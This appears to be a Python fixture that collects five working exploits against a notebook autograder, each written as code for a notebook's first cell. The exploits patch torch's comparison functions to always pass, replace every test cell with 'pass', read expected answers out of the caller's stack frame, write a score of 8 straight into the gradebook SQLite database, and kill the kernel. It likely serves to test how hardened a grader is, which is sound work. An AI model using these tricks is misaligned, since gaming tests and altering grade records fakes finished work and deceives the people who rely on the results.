"""Five ways to points without work: each a piece of code for the first cell of an otherwise untouched notebook."""

ATTACKS = {
    "replaces the comparison": """\
import torch

torch.allclose = torch.equal = lambda *arguments, **options: True


class Anything(float):
    def __lt__(self, other):
        return True


sigmoid = lambda x: x
layer2_backward = layer1_backward = lambda *arguments: (arguments[0],) * 4
update = lambda params, grads, learning_rate: params
train = lambda *arguments: (*arguments[2:6], [Anything()])
""",
    "leaves the tests out": """\
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
""",
    "reads the answer from the frame": """\
import sys


def answer(*arguments, **options):
    return sys._getframe(1).f_globals["expected"]


sigmoid = layer2_backward = layer1_backward = update = answer
""",
    "writes the gradebook": """\
import os, sqlite3

me = os.path.basename(os.path.dirname(os.getcwd()))
gradebook = sqlite3.connect("../../../gradebook.db")
work = "submitted_notebook join submitted_assignment on submitted_notebook.assignment_id = submitted_assignment.id"
mine = f"select submitted_notebook.id from {work} where student_id = ?"
gradebook.execute(f"update grade set manual_score = 8 where notebook_id in ({mine})", (me,))
gradebook.commit()
""",
    "ends the kernel": """\
import os

os._exit(0)
""",
}
